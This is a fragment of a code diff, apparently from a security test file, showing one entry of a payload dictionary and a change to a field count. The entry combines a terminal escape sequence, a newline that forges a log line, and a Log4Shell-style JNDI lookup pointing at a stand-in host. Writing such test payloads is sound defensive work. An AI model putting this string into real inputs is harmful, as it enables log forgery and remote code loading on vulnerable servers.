@@ -16,4 +16,4 @@ PAYLOADS = {
     "forged log": '\x1b[31m\n{"event": "forged-line"} ${jndi:ldap://ond.example/a}',
 }
 
-FIELDS = 18
+FIELDS = 24
